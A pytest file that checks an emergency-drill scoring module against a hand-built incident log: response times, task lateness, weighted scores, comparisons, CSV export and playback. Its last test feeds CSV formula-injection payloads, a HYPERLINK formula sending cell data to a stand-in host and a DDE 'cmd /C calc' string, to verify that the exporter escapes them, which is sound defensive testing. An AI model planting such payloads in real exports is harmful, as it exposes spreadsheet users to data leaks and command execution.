"""Drill scoring from a hand-built event log with known timestamps: exact figures."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest

from command.events import PublishedEvent
from command.scoring import compare, judge, playback, report_csv, score_incident

T0 = dt.datetime(2024, 5, 1, 9, 0, 0, tzinfo=dt.UTC)
INC = 7


class Log:
    """Builds an incident's event log the way the command service writes it."""

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []

    def add(self, t: float, type_: str, data: dict[str, Any], unit_id: int | None = None
            ) -> Log:
        self.events.append({"seq": len(self.events) + 1, "type": type_, "incident_id": INC,
                            "unit_id": unit_id, "at": (T0 + dt.timedelta(seconds=t)).isoformat(),
                            "data": data})
        return self

    def created(self, t: float = 0.0) -> Log:
        return self.add(t, "incident.created", {"incident": {
            "id": INC, "exercise": True, "drill_id": 3, "county_id": 9,
            "scenario_name": "tank fire"}})

    def assign(self, t: float, aid: int, unit: int, cs: str, cap: str, deadline: float | None,
               tasks: list[dict[str, Any]] | None = None) -> Log:
        self.add(t, "assignment.created", {"assignment": {
            "id": aid, "unit_id": unit, "callsign": cs, "capability": cap,
            "deadline_s": deadline, "route": {"type": "LineString",
                                              "coordinates": [[10.0, 50.0], [10.1, 50.1]]}}},
            unit)
        self.status(t, unit, cs, "dispatched")
        return self.add(t, "task_board", {"assignment": {"id": aid}, "tasks": tasks or [],
                                          "pocket_cards": ["x"]}, unit)

    def status(self, t: float, unit: int, cs: str, status: str) -> Log:
        return self.add(t, "unit.status", {"unit_id": unit, "callsign": cs, "status": status,
                                           "incident_id": INC}, unit)

    def ack(self, t: float, aid: int, unit: int) -> Log:
        return self.add(t, "assignment.acked", {"assignment_id": aid, "unit_id": unit}, unit)

    def task_done(self, t: float, task: dict[str, Any], unit: int) -> Log:
        done_at = (T0 + dt.timedelta(seconds=t)).isoformat()
        return self.add(t, "task.updated", {"task": {**task, "status": "done",
                                                     "done_at": done_at}}, unit)


def task(tid: int, title: str, unit: int, deadline: float | None, order: int = 1
         ) -> dict[str, Any]:
    return {"id": tid, "title": title, "unit_id": unit, "capability": "fire", "order": order,
            "deadline_s": deadline, "status": "pending", "done_at": None}


T_COOL = task(101, "cool the tank", 1, 300.0, 1)
T_FOAM = task(102, "foam blanket", 1, 400.0, 2)
T_EVAC = task(103, "triage", 2, 120.0, 1)


def known_log() -> Log:
    """E11 on time, A51 late everywhere, C21 never arrives, one capability unfilled."""
    log = Log().created(0)
    log.assign(5, 11, 1, "E11", "fire", 600.0, [T_COOL, T_FOAM])
    log.assign(5, 12, 2, "A51", "medical", 300.0, [T_EVAC])
    log.assign(5, 13, 3, "C21", "command", 900.0)
    log.add(5, "incident.unmet", {"unmet": [{"capability": "hazmat", "missing": 2,
                                              "deadline_s": 900.0},
                                             {"capability": "route", "missing": 0}]})
    log.ack(20, 11, 1).ack(95, 12, 2)
    log.status(65, 1, "E11", "en_route").status(125, 2, "A51", "en_route")
    log.status(425, 1, "E11", "on_scene").status(505, 2, "A51", "on_scene")
    log.add(600, "drill.inject", {"index": 0, "type": "explosion", "data": {}})
    log.task_done(500, T_COOL, 1)   # due 305: 195 s late
    log.task_done(700, T_FOAM, 1)   # due 405: 295 s late
    log.add(1000, "notification.checked", {"contact": "safety manager", "notified_at":
                                           (T0 + dt.timedelta(seconds=300)).isoformat()})
    log.add(1010, "notification.checked", {"contact": "county chief", "notified": True})
    log.add(1200, "incident.closed", {"incident_id": INC})
    return log


def test_report_to_dispatch_and_per_unit_times_are_exact() -> None:
    r = score_incident(known_log().events)
    assert r["report_to_dispatch_s"] == 5.0
    e11, a51, c21 = r["units"]
    assert (e11["ack_s"], e11["turnout_s"], e11["travel_s"], e11["response_s"]) == (
        15.0, 60.0, 360.0, 420.0)
    assert (e11["status"], e11["late_by_s"], e11["ack_status"]) == ("met", None, "met")
    assert (a51["ack_s"], a51["turnout_s"], a51["travel_s"], a51["response_s"]) == (
        90.0, 120.0, 380.0, 500.0)
    assert (a51["status"], a51["late_by_s"]) == ("late", 200.0)
    assert (a51["ack_status"], a51["ack_late_by_s"]) == ("late", 30.0)
    # C21 never acked nor arrived; the incident closed at 1200, its deadline was 905
    assert c21["ack_s"] is None and c21["response_s"] is None
    assert (c21["status"], c21["late_by_s"]) == ("missed", 295.0)
    assert (c21["ack_status"], c21["ack_late_by_s"]) == ("missed", 1135.0)
    assert e11["dispatched_s"] == 5.0 and e11["on_scene_s"] == 425.0


def test_tasks_against_plan_deadlines() -> None:
    r = score_incident(known_log().events)
    by = {t["task_id"]: t for t in r["tasks"]}
    assert (by[101]["status"], by[101]["late_by_s"], by[101]["due_s"]) == ("late", 195.0, 305.0)
    assert (by[102]["status"], by[102]["late_by_s"]) == ("late", 295.0)
    # triage never done: missed at close (due 125, closed 1200)
    assert (by[103]["status"], by[103]["late_by_s"]) == ("missed", 1075.0)
    assert by[103]["callsign"] == "A51"


def test_score_weights_and_rules_are_in_the_report() -> None:
    r = score_incident(known_log().events)
    c = r["score"]["components"]
    # forces: E11 met, A51 late, C21 missed, 2 hazmat unfilled → 1/5
    assert (c["forces"]["met"], c["forces"]["counted"]) == (1, 5)
    assert (c["tasks"]["met"], c["tasks"]["counted"]) == (0, 3)
    assert (c["acks"]["met"], c["acks"]["counted"]) == (1, 3)
    assert (c["notifications"]["met"], c["notifications"]["counted"]) == (1, 2)
    expected = 100 * (0.4 * 1 / 5 + 0.3 * 0 + 0.2 * (1 / 3) + 0.1 * 0.5)
    assert r["score"]["value"] == pytest.approx(round(expected, 1))
    assert any("40%" in rule for rule in r["score"]["rules"])
    assert r["injects"] == [{"at_s": 600.0, "index": 0, "type": "explosion", "data": {}}]
    whats = sorted((x["what"], x["who"]) for x in r["late"])
    assert ("unfilled", "hazmat") in whats and ("on scene", "A51") in whats
    assert ("task", "foam blanket") in whats and ("notification", "county chief") in whats


def test_parts_with_nothing_to_measure_are_reweighted() -> None:
    log = Log().created(0)
    log.assign(0, 11, 1, "E11", "fire", 600.0)
    log.ack(10, 11, 1).status(20, 1, "E11", "en_route").status(100, 1, "E11", "on_scene")
    r = score_incident(log.events)
    comps = r["score"]["components"]
    assert comps["tasks"]["share"] is None and comps["notifications"]["share"] is None
    assert r["score"]["value"] == 100.0


def test_open_deadlines_are_not_counted_until_they_pass() -> None:
    log = Log().created(0)
    log.assign(0, 11, 1, "E11", "fire", 600.0)
    r = score_incident(log.events, as_of=T0 + dt.timedelta(seconds=30))
    assert r["units"][0]["status"] == "open" and r["units"][0]["ack_status"] == "open"
    assert r["score"]["value"] is None
    later = score_incident(log.events, as_of=T0 + dt.timedelta(seconds=700))
    assert later["units"][0]["status"] == "missed" and later["units"][0]["late_by_s"] == 100.0


def test_a_preempted_unit_is_not_held_against_the_drill() -> None:
    log = Log().created(0)
    log.assign(0, 11, 1, "E11", "fire", 600.0)
    log.ack(10, 11, 1)
    log.add(50, "assignment.released", {"assignment_id": 11, "unit_id": 1,
                                        "reason": "preempted by a real incident"}, 1)
    log.add(50, "drill.preempted", {"unit_id": 1, "callsign": "E11", "drill_id": 3})
    # the unit's status on the real incident must not count for the drill
    log.add(60, "unit.status", {"unit_id": 1, "status": "en_route", "incident_id": 99}, 1)
    r = score_incident(log.events, as_of=T0 + dt.timedelta(seconds=2000))
    u = r["units"][0]
    assert u["status"] == "released" and u["en_route_s"] is None
    assert u["release_reason"] == "preempted by a real incident"
    assert r["preempted"][0]["callsign"] == "E11"
    assert r["score"]["components"]["forces"]["counted"] == 0


def test_reopened_task_counts_its_last_completion() -> None:
    log = Log().created(0)
    log.assign(0, 11, 1, "E11", "fire", 600.0, [T_COOL])
    log.task_done(100, T_COOL, 1)
    log.add(150, "task.updated", {"task": {**T_COOL, "status": "pending"}}, 1)
    r = score_incident(log.events, as_of=T0 + dt.timedelta(seconds=200))
    assert r["tasks"][0]["status"] == "open"
    log.task_done(250, T_COOL, 1)
    assert score_incident(log.events)["tasks"][0]["done_s"] == 250.0


def test_published_events_and_dicts_score_the_same() -> None:
    dicts = known_log().events
    objs = [PublishedEvent(seq=e["seq"], type=e["type"], incident_id=e["incident_id"],
                           at=dt.datetime.fromisoformat(e["at"]), data=e["data"],
                           unit_id=e["unit_id"]) for e in dicts]
    assert score_incident(objs) == score_incident(list(reversed(dicts)))


def test_comparison_with_previous_drills() -> None:
    now = score_incident(known_log().events)
    prev_log = Log().created(0)
    prev_log.assign(0, 11, 1, "E11", "fire", 600.0)
    prev_log.ack(45, 11, 1).status(75, 1, "E11", "en_route").status(675, 1, "E11", "on_scene")
    prev = score_incident(prev_log.events)
    cmp_ = compare(now, [prev])
    e11 = cmp_["units"]["1"]
    assert e11["ack_s"] == {"now": 15.0, "before": 45.0, "delta": -30.0}
    assert e11["travel_s"]["before"] == 600.0 and e11["on_time_before"] == 0.0
    assert cmp_["units"]["2"]["previous_drills"] == 0
    assert cmp_["county"]["mean_before"] == prev["score"]["value"]
    assert cmp_["county"]["delta"] == round(now["score"]["value"] - prev["score"]["value"], 1)


def test_csv_has_a_row_per_unit_task_and_contact() -> None:
    rows = list(csv.DictReader(io.StringIO(report_csv(score_incident(known_log().events)))))
    sections = [r["section"] for r in rows]
    assert sections.count("unit") == 3 and sections.count("task") == 3
    assert sections.count("unfilled") == 2 and sections.count("notification") == 2
    a51 = next(r for r in rows if r["who"] == "A51")
    assert (a51["ack_s"], a51["status"], a51["late_by_s"]) == ("90.0", "late", "200.0")


def test_playback_offsets_and_unit_start_positions() -> None:
    pb = playback(known_log().events)
    assert pb["duration_s"] == 1200.0
    assert pb["events"][0]["t"] == 0.0 and pb["events"][-1]["type"] == "incident.closed"
    assert pb["units"]["1"]["start"] == {"lat": 50.0, "lon": 10.0}
    assert all("pocket_cards" not in f["data"] for f in pb["events"])


@pytest.mark.parametrize(("done", "stopped", "as_of", "expected"), [
    (50, None, 200, ("met", None)),
    (150, None, 200, ("late", 50.0)),
    (None, None, 90, ("open", None)),
    (None, None, 130, ("missed", 30.0)),
    (None, 60, 500, ("released", None)),
    (None, 120, 500, ("missed", 20.0)),
])
def test_judge(done: float | None, stopped: float | None, as_of: float,
               expected: tuple[str, float | None]) -> None:
    def at(s: float | None) -> dt.datetime | None:
        return None if s is None else T0 + dt.timedelta(seconds=s)

    assert judge(T0, 100.0, at(done), at(stopped), at(as_of)) == expected  # type: ignore[arg-type]


def test_a_task_nobody_could_take_counts_from_its_creation() -> None:
    # the service logs an unowned plan task at once; a unit added later picks it up
    unowned = {**task(104, "decontamination line", 0, 900.0), "unit_id": None,
               "capability": "hazmat", "created_at": (T0 + dt.timedelta(seconds=5)).isoformat()}
    log = Log().created(0)
    log.add(5, "task.updated", {"task": unowned})
    log.assign(2000, 14, 4, "H42", "hazmat", None, [{**unowned, "unit_id": 4}])
    r = score_incident(log.events, as_of=T0 + dt.timedelta(seconds=3000))
    (t,) = r["tasks"]
    assert (t["created_s"], t["due_s"], t["callsign"]) == (5.0, 905.0, "H42")
    assert (t["status"], t["late_by_s"]) == ("missed", 2095.0)


def test_a_drill_ended_early_leaves_undone_tasks_before_their_deadline_uncounted() -> None:
    log = Log().created(0)
    log.assign(0, 11, 1, "E11", "fire", 600.0, [T_COOL, {**T_EVAC, "deadline_s": 60.0}])
    log.add(120, "incident.closed", {"incident_id": INC})
    by = {t["task_id"]: t for t in score_incident(log.events)["tasks"]}
    assert by[101]["status"] == "open"  # due at 300: the drill ended first
    assert (by[103]["status"], by[103]["late_by_s"]) == ("missed", 60.0)


def test_a_released_units_open_task_no_longer_names_it() -> None:
    log = Log().created(0)
    log.assign(0, 11, 1, "E11", "fire", 600.0, [T_COOL])
    log.add(30, "assignment.released", {"assignment_id": 11, "unit_id": 1}, 1)
    log.add(30, "task.updated", {"task": {**T_COOL, "unit_id": None}})
    (t,) = score_incident(log.events)["tasks"]
    assert t["unit_id"] is None and t["callsign"] is None


def test_csv_cells_never_run_as_formulas_and_carry_the_improvements() -> None:
    log = known_log()
    log.add(1100, "incident.first_report", {"sent_to": '=HYPERLINK("http://x/?"&A1,"click")',
                                            "by": "duty"})
    text = report_csv(score_incident(log.events),
                      [{"text": "+cmd|' /C calc'!A0", "owner": "@chief", "due": None}],
                      title="-2+3 night drill")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [v for r in rows for v in r.values() if v]
    assert not any(v[0] in "=+-@" for v in cells), [v for v in cells if v[0] in "=+-@"]
    fr = next(r for r in rows if r["section"] == "first_report")
    assert fr["who"] == "'" + '=HYPERLINK("http://x/?"&A1,"click")'
    imp = next(r for r in rows if r["section"] == "improvement")
    assert (imp["who"], imp["capability"]) == ("'+cmd|' /C calc'!A0", "'@chief")
    assert next(r for r in rows if r["section"] == "title")["who"] == "'-2+3 night drill"
